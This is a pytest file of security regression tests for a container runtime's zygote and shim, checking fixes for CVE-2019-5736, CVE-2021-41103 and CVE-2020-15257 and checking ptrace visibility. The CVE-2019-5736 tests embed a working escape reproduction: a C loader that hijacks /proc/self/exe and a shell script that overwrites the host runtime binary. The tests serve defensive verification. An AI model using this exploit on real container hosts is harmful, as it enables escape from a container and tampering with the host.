"""Attacks on the zygote, the shim and the interpreter they run in: what a container reaches of them, and costs them."""

import contextlib
import hashlib
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import shimclient
from shimclient import Shim, Workshop, run_directory, wait_gone, workshop
from support.ocicommand import runtime_in, wait_until
from support.requirements import needs

from corral.kernel import capabilities, process, stone
from corral.kernel.syscalls import MACHINE

pytestmark = needs("root", "busybox")


# Overwriting the interpreter

LOADER = r"""
/* What the kernel runs as the ELF interpreter of /proc/self/exe: keep that file, and become the attacker's shell. */
static long call(long number, long a, long b, long c) {
#ifdef __x86_64__
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
#endif
}
#ifdef __x86_64__
enum { OPENAT = 257, EXECVE = 59, EXIT = 60 };
#else
enum { OPENAT = 56, EXECVE = 221, EXIT = 93 };
#endif
void _start(void) {
    char exe[] = "/proc/self/exe", shell[] = "/bin/busybox", name[] = "sh", script[] = "/attack";
    char *arguments[] = {name, script, 0}, *environment[] = {0};
    call(OPENAT, -100, (long)exe, 0);
    call(EXECVE, (long)shell, (long)arguments, (long)environment);
    call(EXIT, 99, 0, 0);
}
"""
ATTACK = """#!/bin/sh
stat -L -c %s /proc/self/fd/3 > /got
echo > /ready
i=0
while [ $i -lt 100 ]; do
    echo pwned > /proc/self/fd/3 && echo > /written
    usleep 50000; i=$((i+1))
done 2>/dev/null
"""


def interpreter_in(directory: Path) -> Path:
    """A copy of this interpreter that nothing else runs, so that it is not busy once its processes are gone."""
    real = Path(sys.executable).resolve()
    copy = directory / "bin" / real.name
    copy.parent.mkdir()
    shutil.copy(real, copy)
    (directory / "lib").mkdir()
    library = Path(os.__file__).parent
    (directory / "lib" / library.name).symlink_to(library)
    return copy


def loader_of(program: Path) -> str:
    """The path of the ELF interpreter that a program names."""
    done = subprocess.run(["readelf", "-p", ".interp", program], capture_output=True, text=True, check=True)
    return done.stdout.split("]")[1].split()[0]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class TestCve20195736:
    """A container whose program is /proc/self/exe: the runtime's interpreter runs inside, with the image's loader."""

    @pytest.fixture
    def shop(self, monkeypatch) -> Iterator[Workshop]:
        if shutil.which("gcc") is None:
            pytest.skip("needs gcc on x86_64")
        with run_directory() as directory:
            interpreter = interpreter_in(directory)
            monkeypatch.setattr(shimclient.sys, "executable", str(interpreter))
            with workshop() as shop:
                place = shop.root / loader_of(interpreter).lstrip("/")
                place.parent.mkdir(parents=True, exist_ok=True)
                source = directory / "loader.c"
                source.write_text(LOADER)
                flags = ["-nostdlib", "-static-pie", "-fPIE", "-O1", "-fno-stack-protector"]
                subprocess.run(["gcc", *flags, "-o", str(place), str(source)], check=True)
                (shop.root / "attack").write_text(ATTACK)
                (shop.root / "attack").chmod(0o755)
                (shop.root / "evil").symlink_to("/proc/self/exe")
                yield shop

    def refusing(self, shop: Workshop) -> Shim:
        """One whose filter refuses what it takes to leave Python before an exec is seen."""
        refused = {"names": ["setsid"], "action": "SCMP_ACT_ERRNO"}
        shim = shop.spawn("sleep", "100", seccomp={"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [refused]})
        shim.create()
        shim.start()
        return shim

    @pytest.mark.skipif(MACHINE not in stone.MACHINES, reason="a stone is for x86-64")
    def test_cve_2019_5736_an_exec_was_no_interpreter_before(self, shop):
        shim = shop.run("sleep", "100")
        shim.exec("e", "/evil")
        shim.start("e")
        shim.wait_state("stopped", "e")
        assert not (shop.root / "ready").exists()

    @pytest.mark.parametrize("how", ["create", "exec"])
    def test_cve_2019_5736_the_interpreter_is_never_written(self, shop, how):
        interpreter = Path(sys.executable)
        before = digest(interpreter)
        if how == "create":
            shim = shop.run("/evil")
        else:
            shim = self.refusing(shop)
            shim.exec("e", "/evil", noNewPrivileges=True)
            shim.start("e")
        deadline = time.monotonic() + 5
        while not (shop.root / "ready").exists():
            assert time.monotonic() < deadline, "the container's program never ran"
            time.sleep(0.01)
        got = (shop.root / "got").read_text().strip()
        assert got == str(interpreter.stat().st_size), "the attack had no descriptor of the interpreter"
        # As an upgrade would: all that runs it ends, and with that the kernel's own protection of a file that runs.
        for pid in (shim.pid, shop.zygote.pid):
            os.kill(pid, signal.SIGKILL)
        wait_gone(shim.pid)
        give_up_at = time.monotonic() + 1.5
        while time.monotonic() < give_up_at:
            assert not (shop.root / "written").exists()
            assert digest(interpreter) == before
            time.sleep(0.1)
        end_processes_in(shop.root)


def end_processes_in(root: Path) -> None:
    """Kill what runs in a root directory (the shim that would have is dead), and wait for its end."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal():
            with contextlib.suppress(OSError):
                if (entry / "root").stat().st_ino == root.stat().st_ino:
                    os.kill(int(entry.name), signal.SIGKILL)
                    wait_gone(int(entry.name))


# Looking into the runtime


def without_ptrace() -> int:
    """All capabilities but the one that makes dumpable or not the same."""
    return capabilities.bounding() & capabilities.permitted() & ~capabilities.mask_of(["CAP_SYS_PTRACE"])


@pytest.fixture
def confined(monkeypatch) -> Iterator[Workshop]:
    """A zygote whose shims have no CAP_SYS_PTRACE: the capability checks of ptrace(2) then let an equal look in, and
    whether it may is a matter of dumpable alone."""
    with run_directory() as directory:
        starter = directory / "python"
        starter.write_text(
            f"#!{sys.executable} -IS\nimport os, sys\nsys.path.insert(0, {_source()!r})\n"
            "from corral.kernel import capabilities\n"
            "capabilities.limit_bounding(capabilities.bounding() & ~capabilities.mask_of(['CAP_SYS_PTRACE']))\n"
            f"os.execv({sys.executable!r}, [{sys.executable!r}, *sys.argv[1:]])\n"
        )
        starter.chmod(0o755)
        monkeypatch.setattr(shimclient.sys, "executable", str(starter))
        with workshop() as shop:
            monkeypatch.undo()
            yield shop


def _source() -> str:
    return str(Path(next(iter(shimclient.corral.shim.__path__))).parents[1])


def lets_an_equal_look_in(pid: int) -> bool:
    """Whether a process of the same user and capabilities may follow its links, as ptrace(2) would."""
    child, pidfd = process.clone(0)
    if child == 0:
        held = without_ptrace()
        try:
            capabilities.set_process(effective=held, permitted=held, inheritable=0)
            Path(f"/proc/{pid}/exe").readlink()
            os._exit(1)
        except PermissionError:
            os._exit(0)
        finally:
            os._exit(2)
    code = os.waitid(os.P_PIDFD, pidfd, os.WEXITED).si_status
    os.close(pidfd)
    assert code in (0, 1)
    return code == 1


def test_the_zygote_and_its_shims_let_nobody_look_in(confined: Workshop):
    shim = confined.spawn("true")
    other = subprocess.Popen(["setpriv", "--bounding-set", "-sys_ptrace", "sleep", "60"])
    try:
        time.sleep(0.2)
        assert lets_an_equal_look_in(other.pid), "the test itself is wrong"
        assert not lets_an_equal_look_in(confined.zygote.pid)
        assert not lets_an_equal_look_in(shim.pid)
        assert not lets_an_equal_look_in(shim.create())
    finally:
        other.kill()
        other.wait()


def test_the_command_lets_nobody_look_in_while_its_container_runs(tmp_path):
    """It holds the host's privilege, and may be seen by a container in the host's PID namespace."""
    with runtime_in(tmp_path) as oci:
        oci.write("sleep", "60")
        name, as_equal = oci.new_id(), ("setpriv", "--bounding-set", "-sys_ptrace")
        words = [*as_equal, *oci.words("run", name)]
        with subprocess.Popen(words, cwd=oci.bundle, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL) as running:
            try:
                wait_until(lambda: oci.call("state", name).returncode == 0 and oci.status(name) == "running")
                assert not lets_an_equal_look_in(running.pid)
            finally:
                oci.ok("kill", name, "KILL")


def test_cve_2021_41103_what_a_shim_writes_is_for_root_alone():
    before = os.umask(0o022)
    try:
        with workshop() as shop:
            shim = shop.run("sh", "-c", "echo secret; exec sleep 60")
            shim.exec("e", "true")
            shim.start("e")
            wait_until(lambda: shim.log.exists() and bool(shim.log.read_bytes()))
            shim.wait_state("stopped", "e")
            written = [
                path for path in (*shim.bundle.rglob("*"), shim.log) if path.name not in ("config.json", "socket")
            ]
            assert len(written) > 2
            assert [path.name for path in written if path.lstat().st_mode & 0o077 and not path.is_fifo()] == []
    finally:
        os.umask(before)


def test_nothing_of_who_started_the_zygote_is_open_in_it_or_in_a_shim():
    held = os.open("/etc/shadow", os.O_RDONLY)
    os.set_inheritable(held, True)
    try:
        with workshop() as shop:
            shim = shop.run("sleep", "60")
            pids = (shop.zygote.pid, shim.pid, shim.state()["pid"])
            opened = {str(link.readlink()) for pid in pids for link in Path(f"/proc/{pid}/fd").iterdir()}
            assert "/etc/shadow" not in opened
    finally:
        os.close(held)


def test_cve_2020_15257_a_shim_listens_by_a_path_alone():
    """Abstract sockets are reached by every container in the host's network namespace."""
    with workshop() as shop:
        shim = shop.run("sleep", "60")
        sockets = set()
        for pid in (shop.zygote.pid, shim.pid):
            targets = [str(link.readlink()) for link in Path(f"/proc/{pid}/fd").iterdir()]
            sockets |= {target[8:-1] for target in targets if target.startswith("socket:[")}
        lines = [line.split() for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
        names = [line[7] for line in lines if len(line) > 7 and line[6] in sockets]
        assert str(shim.bundle / "socket") in names or any(name.endswith("/socket") for name in names)
        assert not [name for name in names if name.startswith("@")]
